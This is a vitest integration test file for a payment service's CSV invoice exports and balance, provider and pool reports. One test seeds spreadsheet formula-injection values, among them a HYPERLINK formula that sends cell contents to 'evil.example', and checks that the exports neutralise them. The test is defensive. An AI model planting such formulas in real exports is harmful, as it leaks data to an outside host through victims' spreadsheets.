import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  invoices,
  paymentMethods,
  peopleAccounts,
  providers,
  settlements,
  terminalPools,
  terminals,
} from '../../db/schema.ts';
import { TEST_DATABASE_KINDS } from '../../db/testing/test-databases.ts';
import { currencyId } from '../../seed/reference-data.ts';
import { seedReferenceData } from '../../seed/reference-data-seed.ts';
import {
  createTestApp,
  createTestMerchant,
  createTestPerson,
  signIn,
  type TestApp,
} from '../../testing/test-app.ts';
import { createTestInvoice, createTestTerminal } from '../../testing/test-data.ts';
import { INVOICE_CSV_PAGE_SIZE } from './invoice-csv-export.ts';

const csvRows = (body: string): string[][] =>
  parse(body.replace(/^\uFEFF/, ''), { relax_column_count: true });

describe.each(TEST_DATABASE_KINDS)('CSV downloads on %s', (kind) => {
  let testApp: TestApp;
  const cookies = { merchant: '', admin: '', support: '' };
  let ownTerminalId = 0;
  let otherTerminalId = 0;
  let poolId = 0;
  let providerId = 0;

  beforeAll(async () => {
    testApp = await createTestApp(kind);
    const { db, app } = testApp;
    await seedReferenceData(db);
    const own = await createTestMerchant(db, 'Own');
    const other = await createTestMerchant(db, 'Other');
    const merchantUser = await createTestPerson(db, {
      username: 'merchant',
      role: 'merchant',
      merchantId: own.id,
    });
    await createTestPerson(db, { username: 'admin', role: 'admin' });
    await createTestPerson(db, { username: 'support', role: 'support' });
    for (const name of ['merchant', 'admin', 'support'] as const)
      cookies[name] = await signIn(app, name, `${name}-password`);

    const [pool] = await db.insert(terminalPools).values({ name: 'Pool A' }).returning();
    poolId = pool?.id ?? 0;
    const uzs = await createTestTerminal(db, own.id, { name: 'UZS in', terminalPoolId: poolId });
    const theirs = await createTestTerminal(db, other.id, {
      name: 'Theirs',
      terminalPoolId: poolId,
    });
    ownTerminalId = uzs.id;
    otherTerminalId = theirs.id;
    const [provider] = await db.select().from(providers).limit(1);
    providerId = provider?.id ?? 0;
    const [method] = await db
      .select()
      .from(paymentMethods)
      .where(eq(paymentMethods.code, 'HUMOUZS'));
    const [account] = await db
      .insert(peopleAccounts)
      .values({ providerId, paymentMethodId: method?.id ?? 0, bankName: 'Kapitalbank' })
      .returning();

    await createTestInvoice(db, uzs, {
      merchantInvoiceId: 'ORD-1',
      customerFirstName: 'Дилноза',
      customerLastName: 'O‘ktamova, "VIP"',
      amount: 150_050n,
      fee: 1_000n,
      status: 'DONE',
      createdAt: new Date('2026-03-01T10:00:00Z'),
      statusDate: new Date('2026-03-01T10:05:00Z'),
      peopleAccountId: account?.id,
      paymentMethodId: method?.id,
    });
    await createTestInvoice(db, uzs, {
      merchantInvoiceId: 'ORD-2',
      amount: 50_000n,
      status: 'CANCELED',
      createdAt: new Date('2026-03-02T10:00:00Z'),
      statusDate: new Date('2026-03-02T10:00:00Z'),
    });
    await createTestInvoice(db, theirs, {
      merchantInvoiceId: 'THEIRS-1',
      amount: 9_900_000n,
      status: 'DONE',
      createdAt: new Date('2026-03-01T11:00:00Z'),
      statusDate: new Date('2026-03-01T11:00:00Z'),
    });
    await db.insert(settlements).values({
      merchantId: own.id,
      terminalId: uzs.id,
      baseAmount: 10_000n,
      settlementAmount: 1_000_000n,
      createdBy: merchantUser.id,
      createdAt: new Date('2026-03-02T12:00:00Z'),
    });
  });
  afterAll(async () => testApp?.close());

  const download = (url: string, cookie = cookies.merchant) =>
    testApp.app.inject({ url, headers: { cookie } });

  it('streams Invoices.csv with the list filters, correct quoting and UTF-8', async () => {
    const response = await download('/api/v1/invoice/csv?flowType=DEPOSIT');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="Invoices.csv"');
    const [header, ...rows] = csvRows(response.body);
    expect(header).toContain('Merchant Invoice ID');
    expect(header).not.toContain('Provider Invoice ID');
    expect(rows.map((row) => row[1])).toEqual(['ORD-2', 'ORD-1']);
    const first = rows[1] ?? [];
    expect(first).toContain('1500.50');
    expect(first).toContain('Дилноза O‘ktamova, "VIP"');
    expect(first).toContain('01/03/2026 10:00:00');

    const filtered = await download('/api/v1/invoice/csv?search=ORD-1');
    expect(csvRows(filtered.body)).toHaveLength(2);
  });

  it('keeps merchants apart in the CSV', async () => {
    const own = csvRows((await download('/api/v1/invoice/csv')).body);
    expect(own.flat()).not.toContain('THEIRS-1');
    const all = csvRows((await download('/api/v1/invoice/csv', cookies.support)).body);
    expect(all.flat()).toContain('THEIRS-1');
  });

  it('answers the CSV filters’ errors as the list does', async () => {
    expect((await download('/api/v1/invoice/csv?dateFrom=99/99/2026')).statusCode).toBe(400);
    expect((await testApp.app.inject({ url: '/api/v1/invoice/csv' })).statusCode).toBe(401);
  });

  it('names the transactions report by its period and limits it to the terminal', async () => {
    const response = await download(
      `/api/v1/report/invoice?periodStart=2026-03-01&periodEnd=2026-03-01&terminalId=${ownTerminalId}`,
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="Transactions_2026-03-01_2026-03-01.csv"',
    );
    expect(
      csvRows(response.body)
        .slice(1)
        .map((row) => row[1]),
    ).toEqual(['ORD-1']);
    expect(
      (
        await download(
          `/api/v1/report/invoice?periodStart=2026-03-01&periodEnd=2026-03-01&terminalId=${otherTerminalId}`,
        )
      ).statusCode,
    ).toBe(404);
  });

  it('computes the balance report per day', async () => {
    const response = await download(
      `/api/v1/report/balance?periodStart=2026-03-01&periodEnd=2026-03-03&currencyId=${currencyId('UZS')}`,
    );
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="Balance_2026-03-01_2026-03-03.csv"',
    );
    const [header, ...rows] = csvRows(response.body);
    expect(header).toEqual([
      'Date',
      'Currency',
      'Deposits',
      'Deposit sum',
      'Withdrawals',
      'Withdrawal sum',
      'Fees',
      'Settlements',
      'Net',
    ]);
    expect(rows).toEqual([
      ['2026-03-01', 'UZS', '1', '1500.50', '0', '0.00', '10.00', '0.00', '1490.50'],
      ['2026-03-02', 'UZS', '0', '0.00', '0', '0.00', '0.00', '100.00', '-100.00'],
      ['2026-03-03', 'UZS', '0', '0.00', '0', '0.00', '0.00', '0.00', '0.00'],
    ]);
  });

  it('leaves test payments out of the balance reports, as the balances do', async () => {
    const [terminal] = await testApp.db
      .select()
      .from(terminals)
      .where(eq(terminals.id, ownTerminalId));
    if (!terminal) throw new Error('own terminal missing');
    await createTestInvoice(testApp.db, terminal, {
      merchantInvoiceId: 'TEST-DONE',
      amount: 777_700n,
      fee: 7_700n,
      status: 'DONE',
      isTestProcessing: true,
      createdAt: new Date('2026-04-01T10:00:00Z'),
      statusDate: new Date('2026-04-01T10:05:00Z'),
    });
    const balance = await download(
      `/api/v1/report/balance?periodStart=2026-04-01&periodEnd=2026-04-01&currencyId=${currencyId('UZS')}`,
    );
    expect(csvRows(balance.body).slice(1)).toEqual([
      ['2026-04-01', 'UZS', '0', '0.00', '0', '0.00', '0.00', '0.00', '0.00'],
    ]);
    const pool = await download(
      `/api/v1/report/pool/balance?periodStart=2026-04-01&periodEnd=2026-04-30&terminalPoolId=${poolId}`,
      cookies.admin,
    );
    expect(
      csvRows(pool.body)
        .slice(1)
        .map((row) => [row[2], row[8]]),
    ).toEqual([
      ['UZS in', '0.00'],
      ['Theirs', '0.00'],
    ]);
  });

  it('builds the provider report for an admin', async () => {
    const response = await download(
      `/api/v1/report/provider?periodStart=2026-03-01&periodEnd=2026-03-31&currencyId=${currencyId('UZS')}&providerId=${providerId}`,
      cookies.admin,
    );
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="Provider_2026-03-01_2026-03-31.csv"',
    );
    const rows = csvRows(response.body).slice(1);
    expect(rows).toEqual([
      ['2026-03-01', expect.any(String), 'Humo', 'DEPOSIT', 'DONE', '1', '1500.50', 'UZS'],
    ]);
  });

  it('builds the pool balance per terminal, only the own terminals for a merchant', async () => {
    const adminReport = await download(
      `/api/v1/report/pool/balance?periodStart=2026-03-01&periodEnd=2026-03-31&terminalPoolId=${poolId}`,
      cookies.admin,
    );
    expect(adminReport.headers['content-disposition']).toBe(
      'attachment; filename="Terminal_Pool_Balance_2026-03-01_2026-03-31.csv"',
    );
    expect(
      csvRows(adminReport.body)
        .slice(1)
        .map((row) => [row[2], row[8]]),
    ).toEqual([
      ['UZS in', '1390.50'],
      ['Theirs', '99000.00'],
    ]);
  });

  it('writes text a spreadsheet would run as a formula as text, amounts and dates as they are', async () => {
    const { db } = testApp;
    const mallory = await createTestMerchant(db, 'Mallory');
    const malloryUser = await createTestPerson(db, {
      username: 'mallory',
      role: 'merchant',
      merchantId: mallory.id,
    });
    const [pool] = await db.insert(terminalPools).values({ name: '@Pool' }).returning();
    const terminal = await createTestTerminal(db, mallory.id, {
      name: '-Till',
      terminalPoolId: pool?.id ?? null,
    });
    const [provider] = await db
      .insert(providers)
      .values({ name: '+Provider', code: 'formula-provider' })
      .returning();
    const [method] = await db
      .select()
      .from(paymentMethods)
      .where(eq(paymentMethods.code, 'HUMOUZS'));
    const [account] = await db
      .insert(peopleAccounts)
      .values({
        providerId: provider?.id ?? 0,
        paymentMethodId: method?.id ?? 0,
        bankName: 'Kapitalbank',
      })
      .returning();
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"x")';
    await createTestInvoice(db, terminal, {
      merchantInvoiceId: '+1+2',
      customerExternalId: '-2+3',
      customerFirstName: hyperlink,
      customerLastName: '',
      amount: 150_000n,
      status: 'DONE',
      createdAt: new Date('2026-05-01T10:00:00Z'),
      statusDate: new Date('2026-05-01T10:05:00Z'),
      peopleAccountId: account?.id,
      paymentMethodId: method?.id,
    });
    await createTestInvoice(db, terminal, {
      merchantInvoiceId: '@SUM(1)',
      customerExternalId: '\tuser',
      customerFirstName: 'Plain',
      customerLastName: '-Name',
      amount: 25_000n,
      fee: 500n,
      status: 'NEW',
      createdAt: new Date('2026-05-01T09:00:00Z'),
      statusDate: new Date('2026-05-01T09:00:00Z'),
    });
    await db.insert(settlements).values({
      merchantId: mallory.id,
      terminalId: terminal.id,
      baseAmount: 200_000n,
      settlementAmount: 200_000n,
      createdBy: malloryUser.id,
      createdAt: new Date('2026-05-02T12:00:00Z'),
    });
    const records = (body: string): Array<Record<string, string>> =>
      parse(body, { bom: true, columns: true });
    const invoiceCells = (record: Record<string, string> | undefined) => [
      record?.['Merchant Invoice ID'],
      record?.['Created (UTC)'],
      record?.Amount,
      record?.Fee,
      record?.Terminal,
      record?.['Payment method'],
      record?.['User ID'],
      record?.['Owner name'],
    ];
    const expectedInvoices = [
      [
        "'+1+2",
        '01/05/2026 10:00:00',
        '1500.00',
        '0.00',
        "'-Till",
        'Humo',
        "'-2+3",
        `'${hyperlink}`,
      ],
      [
        "'@SUM(1)",
        '01/05/2026 09:00:00',
        '250.00',
        '5.00',
        "'-Till",
        '-',
        "'\tuser",
        'Plain -Name',
      ],
    ];

    const invoicesCsv = await download(
      `/api/v1/invoice/csv?merchantId=${mallory.id}`,
      cookies.admin,
    );
    expect(invoicesCsv.statusCode).toBe(200);
    expect(records(invoicesCsv.body).map(invoiceCells)).toEqual(expectedInvoices);
    // Marked inside the quotes, with the formula's own quotes doubled (RFC 4180).
    expect(invoicesCsv.body).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")",');
    expect(invoicesCsv.body).toContain(',1500.00,0.00,');

    const transactions = await download(
      `/api/v1/report/invoice?periodStart=2026-05-01&periodEnd=2026-05-01&merchantId=${mallory.id}`,
      cookies.admin,
    );
    expect(transactions.statusCode).toBe(200);
    expect(records(transactions.body).map(invoiceCells)).toEqual(expectedInvoices);

    const providerReport = await download(
      `/api/v1/report/provider?periodStart=2026-05-01&periodEnd=2026-05-31&currencyId=${currencyId('UZS')}&providerId=${provider?.id}`,
      cookies.admin,
    );
    expect(csvRows(providerReport.body).slice(1)).toEqual([
      ['2026-05-01', "'+Provider", 'Humo', 'DEPOSIT', 'DONE', '1', '1500.00', 'UZS'],
    ]);

    const poolReport = await download(
      `/api/v1/report/pool/balance?periodStart=2026-05-01&periodEnd=2026-05-31&terminalPoolId=${pool?.id}`,
      cookies.admin,
    );
    expect(csvRows(poolReport.body).slice(1)).toEqual([
      [
        "'@Pool",
        String(terminal.id),
        "'-Till",
        'UZS',
        '1500.00',
        '0.00',
        '0.00',
        '2000.00',
        '-500.00',
      ],
    ]);

    const balance = await download(
      `/api/v1/report/balance?periodStart=2026-05-01&periodEnd=2026-05-02&currencyId=${currencyId('UZS')}&merchantId=${mallory.id}`,
      cookies.admin,
    );
    expect(csvRows(balance.body).slice(1)).toEqual([
      ['2026-05-01', 'UZS', '1', '1500.00', '0', '0.00', '0.00', '0.00', '1500.00'],
      ['2026-05-02', 'UZS', '0', '0.00', '0', '0.00', '0.00', '2000.00', '-2000.00'],
    ]);
  });

  it('checks each report’s permission and its required fields', async () => {
    // The merchant role has report.read.balance and report.read.invoice, not provider or pool.
    expect(
      (
        await download(
          `/api/v1/report/provider?periodStart=2026-03-01&periodEnd=2026-03-31&currencyId=1&providerId=1`,
        )
      ).statusCode,
    ).toBe(403);
    expect(
      (
        await download(
          `/api/v1/report/pool/balance?periodStart=2026-03-01&periodEnd=2026-03-31&terminalPoolId=${poolId}`,
        )
      ).statusCode,
    ).toBe(403);
    expect(
      (await download('/api/v1/report/balance?periodStart=2026-03-01&periodEnd=2026-03-31'))
        .statusCode,
    ).toBe(400);
    expect(
      (
        await download(
          `/api/v1/report/balance?periodStart=2026-03-05&periodEnd=2026-03-01&currencyId=${currencyId('UZS')}`,
        )
      ).statusCode,
    ).toBe(400);
    expect((await download('/api/v1/report/invoice?periodStart=2026-03-01')).statusCode).toBe(400);
    expect(
      (
        await testApp.app.inject({
          url: '/api/v1/report/invoice?periodStart=2026-03-01&periodEnd=2026-03-01',
        })
      ).statusCode,
    ).toBe(401);
  });

  it('streams a large export page by page', async () => {
    const [terminal] = await testApp.db
      .select()
      .from(terminals)
      .where(eq(terminals.id, ownTerminalId));
    if (!terminal) throw new Error('no terminal');
    const base = new Date('2026-04-01T00:00:00Z').getTime();
    const count = INVOICE_CSV_PAGE_SIZE + 500;
    const rows = Array.from({ length: count }, (_, index) => ({
      merchantId: terminal.merchantId,
      terminalId: terminal.id,
      merchantInvoiceId: `BULK-${index}`,
      flowType: 'DEPOSIT' as const,
      amount: 100_000n,
      currencyId: terminal.currencyId,
      customerExternalId: 'bulk',
      formId: `bulk-form-${kind}-${index}`,
      // Many rows share a timestamp, so the keyset cursor must break ties by id.
      createdAt: new Date(base + Math.floor(index / 7) * 1_000),
      expiresAt: new Date(base + 3_600_000),
    }));
    for (let start = 0; start < rows.length; start += 500) {
      await testApp.db.insert(invoices).values(rows.slice(start, start + 500));
    }
    const response = await download('/api/v1/invoice/csv?search=bulk');
    const ids = csvRows(response.body)
      .slice(1)
      .map((row) => row[1]);
    expect(ids).toHaveLength(count);
    expect(new Set(ids).size).toBe(count);
  });
});
